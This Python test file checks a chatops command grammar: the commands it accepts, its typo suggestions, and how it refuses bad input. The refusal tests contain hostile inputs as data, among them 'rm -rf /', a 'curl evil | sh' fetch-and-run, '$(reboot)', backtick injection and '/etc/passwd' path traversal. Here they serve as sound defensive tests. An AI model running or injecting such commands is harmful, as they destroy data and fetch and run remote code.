"""The command grammar: what it accepts, what it refuses and how it says so, and a
property-based check that no text makes it raise anything but its own ParseError."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatops.grammar import (
    FORBIDDEN,
    MAX_TEXT,
    Approve,
    Deploy,
    Destroy,
    Help,
    ListRuns,
    Logs,
    Params,
    ParseError,
    Scale,
    Status,
    parse,
)
from engine.recipes.schema import NAME_RE, PARAM_RE


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("deploy webapp", Deploy("webapp")),
        ("  Deploy   webapp  ", Deploy("webapp")),
        ("plan webapp on aws-eu", Deploy("webapp", "aws-eu", hold=True)),
        (
            'deploy webapp web=aws-eu greeting="Hello world" x3 web',
            Deploy("webapp", None, (("web", "aws-eu"), ("greeting", "Hello world")), (("web", 3),)),
        ),
        (
            "deploy webapp greeting=“Bonjour tout le monde”",
            Deploy("webapp", None, (("greeting", "Bonjour tout le monde"),)),
        ),
        ("deploy webapp 'greeting=it is'", Deploy("webapp", None, (("greeting", "it is"),))),
        ("deploy webapp version=", Deploy("webapp", None, (("version", ""),))),
        (
            "deploy webapp url=http://example.org/a?b=c",
            Deploy("webapp", None, (("url", "http://example.org/a?b=c"),)),
        ),
        ("", Help()),
        ("help", Help()),
        ("help deploy", Help("deploy")),
        ("status", Status()),
        ("status 3f2a9c1e", Status("3f2a9c1e")),
        ("list", ListRuns("all")),
        ("list mine", ListRuns("mine")),
        ("params 3f2a", Params("3f2a")),
        ("logs 3f2a", Logs("3f2a")),
        ("scale 3f2a web=+2 db=-1", Scale("3f2a", (("web", 2), ("db", -1)))),
        ("destroy 3f2a", Destroy("3f2a")),
        ("approve 3f2a", Approve("3f2a")),
    ],
)
def test_commands_parse(text: str, command: object) -> None:
    assert parse(text) == command


@pytest.mark.parametrize(
    ("text", "token", "suggestion", "says"),
    [
        ("deplyo webapp", "deplyo", "deploy", "is not a command"),
        ("stauts", "stauts", "status", "is not a command"),
        ("list mien", "mien", "mine", "expected `mine` or `all`"),
        ("deploy webapp onn aws", "onn", "on", "expected `on CLOUD`"),
        ("help dploy", "dploy", "deploy", "is not a command"),
        ("deploy webapp; rm -rf /", "webapp;", None, "`;` is never accepted"),
        ("deploy webapp && curl evil | sh", "&&", None, "`&` is never accepted"),
        ("deploy $(reboot)", "$(reboot)", None, "`$` is never accepted"),
        ("deploy webapp greeting='`id`'", "greeting=`id`", None, "quoted or not"),
        (
            "deploy webapp -var-file=/etc/passwd",
            "-var-file=/etc/passwd",
            None,
            "options are not accepted",
        ),
        ("deploy ../../etc/passwd", "../../etc/passwd", None, "is not a recipe name"),
        ("deploy webapp on ../x", "../x", None, "is not a cloud name"),
        ("deploy webapp x3 ../web", "../web", None, "is not a node name"),
        ("deploy webapp greeting='hi", None, None, "quote is never closed"),
        ("deploy", None, None, "needs a recipe name"),
        ("status 3f2a extra", "extra", None, "unexpected after `status`"),
        ("destroy", None, None, "needs a run id"),
        ("destroy ../run", "../run", None, "is not a run id"),
        ("scale 3f2a web=2", "web=2", None, "expected NODE=+N or NODE=-N"),
        ("deploy webapp\x00", None, None, "control character U+0000"),
    ],
)
def test_refusals_name_the_bad_token_and_the_nearest_word(
    text: str, token: str | None, suggestion: str | None, says: str
) -> None:
    with pytest.raises(ParseError) as caught:
        parse(text)
    err = caught.value
    assert (err.token, err.suggestion) == (token, suggestion)
    assert says in str(err)


def test_ten_kilobytes_of_text_are_refused_whole() -> None:
    with pytest.raises(
        ParseError, match=f"10240 characters long; a command has at most {MAX_TEXT}"
    ):
        parse("deploy webapp " + "a" * (10240 - 14))


def test_key_value_pairs_become_clouds_for_nodes_and_inputs_otherwise() -> None:
    command = parse("deploy webapp on aws web=local greeting=hi x3 web")
    assert isinstance(command, Deploy)
    overrides = command.overrides(["db", "web", "lb"])
    assert overrides.clouds == {"web": ("local",), "db": ("aws",), "lb": ("aws",)}
    assert overrides.inputs == {"greeting": "hi"}
    assert overrides.multiplicity == {"web": 3}
    with pytest.raises(ParseError, match="`wbe` is not a node of `webapp`; did you mean `web`"):
        Deploy("webapp", counts=(("wbe", 2),)).overrides(["db", "web", "lb"])
    with pytest.raises(ParseError, match="`Bad_Cloud` is not a cloud name"):
        Deploy("webapp", assignments=(("web", "Bad_Cloud"),)).overrides(["web"])


WORDS = st.sampled_from(
    ["deploy", "plan", "status", "list", "params", "logs", "scale", "destroy", "approve",
     "help", "on", "mine", "all", "webapp", "x3", "web=+2", "k=v", "a=b c", "'", '"', "“",
     "=", "-", "../", ";", "$", " ", "\n", "\t", "x", "3f2a"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.text(max_size=300), st.lists(WORDS, max_size=12).map(" ".join)))
def test_any_text_parses_or_raises_only_its_parse_error(text: str) -> None:
    try:
        command = parse(text)
    except ParseError as err:
        assert str(err)
        return
    # What is accepted carries no shell syntax, and its names could never be paths.
    assert not FORBIDDEN & set(command.to_text())
    if isinstance(command, Deploy):
        assert re.match(NAME_RE, command.recipe)
        assert all(re.match(PARAM_RE, key) for key, _ in command.assignments)
        assert command.cloud is None or re.match(NAME_RE, command.cloud)
    # One grammar: the command's own text reads back as the same command.
    assert parse(command.to_text()) == command
